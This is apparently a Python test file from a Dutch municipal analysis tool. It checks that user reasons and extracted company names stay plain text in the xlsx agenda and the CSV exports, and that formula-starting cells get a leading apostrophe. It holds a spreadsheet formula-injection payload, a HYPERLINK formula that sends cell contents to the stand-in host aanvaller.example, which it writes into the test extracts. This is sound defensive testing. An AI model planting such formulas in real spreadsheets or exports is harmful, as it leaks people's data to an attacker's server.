"""Spreadsheet formula injection: text from users (a reason) and from extracts (a KvK
handelsnaam, a handhaving zaak id) stays text in the LOO xlsx and in the CSV exports."""

from __future__ import annotations

import shutil
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from tests.extracts import TEST_KEY
from tests.web.browser import BROWSER_MARKS, live_server, new_page, sign_in
from tests.web.conftest import CONFIG, demo_database, flags_where, make_app
from vik.cli import app as cli

LINK = '=HYPERLINK("http://aanvaller.example/?d="&B2&C2,"Meer info")'


def _poison(extracts: Path) -> None:
    """Every KvK handelsnaam and handhaving zaak id made into a formula, as a hostile or
    careless source system could deliver them."""
    kvk = pl.read_csv(extracts / "kvk.csv", infer_schema=False)
    kvk.with_columns(
        ('=HYPERLINK("http://aanvaller.example/?d="&B2,"' + pl.col("handelsnaam") + '")').alias(
            "handelsnaam"
        )
    ).write_csv(extracts / "kvk.csv")
    zaken = pl.read_csv(extracts / "handhaving.csv", infer_schema=False)
    zaken.with_columns(("=" + pl.col("zaak_id")).alias("zaak_id")).write_csv(
        extracts / "handhaving.csv"
    )


@pytest.fixture(scope="module")
def hostile(demo_extracts, tmp_path_factory) -> tuple[Path, str]:
    """The demo municipality with poisoned extracts, through the real nightly run."""
    folder = tmp_path_factory.mktemp("hostile")
    extracts = folder / "extracts"
    shutil.copytree(demo_extracts, extracts)
    _poison(extracts)
    url = f"sqlite:///{folder / 'vik.db'}"
    demo_database(extracts, url, folder / "data")
    return extracts, url


def _text_cells(path: Path) -> list:  # type: ignore[type-arg]
    workbook = openpyxl.load_workbook(path)
    cells = []
    for sheet in workbook.worksheets:
        assert not sheet._hyperlinks, f"{sheet.title} has working links"
        cells.extend(cell for row in sheet.iter_rows() for cell in row if cell.value is not None)
    return cells


@BROWSER_MARKS[0]
@BROWSER_MARKS[1]
def test_the_loo_spreadsheet_writes_reasons_and_names_as_text(browser, hostile, tmp_path):
    """An analist passes a company (whose KvK name is a formula) on to the LOO with a
    reason that is a formula, then downloads the agenda: both cells are plain text, and
    no cell is a formula or a link."""
    _, url = hostile
    (flag,) = flags_where(url, rule_id="damocles-vergunning", entity_type="bedrijf")
    with live_server(make_app(url)) as base:
        page = new_page(browser)
        sign_in(page, base, "analist.ondermijning")
        page.goto(f"{base}/signalen/{flag.id}")
        card = page.locator(f"#signaal-{flag.id} form.decide")
        card.locator("input[name=besluit][value=doorzetten]").check()
        card.locator("select[name=naar]").select_option("LOO")
        card.locator("textarea[name=reden]").fill(LINK)
        card.locator("button", has_text="Besluit vastleggen").click()
        page.wait_for_load_state()
        assert page.locator("p.notice").inner_text() == "Besluit vastgelegd."
        page.goto(f"{base}/loo")
        with page.expect_download() as download:
            page.click("text=Download als spreadsheet")
        saved = tmp_path / "agenda.xlsx"
        download.value.save_as(saved)
        page.context.close()
    cells = _text_cells(saved)
    assert [c for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert LINK in values  # the reason, as the analist typed it
    assert any(  # the company's name from the KvK extract
        str(v).startswith('=HYPERLINK("http://aanvaller.example/') and "(KvK " in str(v)
        for v in values
    )


def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(hostile, tmp_path, monkeypatch):
    """`vik export links` straight from the poisoned extracts, and `vik export flags`
    from the run: a cell starting with = + - @ or a tab gets a leading apostrophe."""
    extracts, url = hostile
    monkeypatch.setenv("VIK_CONFIG_DIR", str(CONFIG))
    monkeypatch.setenv("VIK_PSEUDONYM_KEY", TEST_KEY.decode())
    links = tmp_path / "koppelingen.csv"
    result = CliRunner().invoke(
        cli,
        [
            "export",
            "links",
            "--extracts",
            str(extracts),
            "--out",
            str(links),
            "--doel",
            "controle van de export op formules",
            "--db",
            url,
        ],
    )
    assert result.exit_code == 0, result.output
    frame = pl.read_csv(links, infer_schema=False)
    zaken = frame.filter(pl.col("source") == "handhaving")["record_id"]
    assert zaken.len() > 0
    assert zaken.str.starts_with("'=HH-").all(), zaken.to_list()[:3]
    flags = tmp_path / "signalen.csv"
    result = CliRunner().invoke(
        cli,
        [
            "export",
            "flags",
            "--db",
            url,
            "--out",
            str(flags),
            "--doel",
            "controle van de export op formules",
        ],
    )
    assert result.exit_code == 0, result.output
    assert _formula_cells(flags) == []
    assert _formula_cells(links) == []


def _formula_cells(path: Path) -> list[str]:
    frame = pl.read_csv(path, infer_schema=False)
    return [
        value
        for column in frame.columns
        for value in frame[column].drop_nulls()
        if value[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


def test_spreadsheet_safe_touches_only_text_that_would_run():
    from vik.files import spreadsheet_safe

    frame = pl.DataFrame(
        {
            "tekst": ["=1+1", "+31 6", "-2", "@SUM(A1)", "\tx", "Kerkstraat 1", "a=b", None],
            "getal": [-1.5, 2, 3, 4, 5, 6, 7, 8],
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["tekst"].to_list() == [
        "'=1+1",
        "'+31 6",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "Kerkstraat 1",
        "a=b",
        None,
    ]
    assert safe["getal"].to_list() == frame["getal"].to_list()  # numbers stay numbers
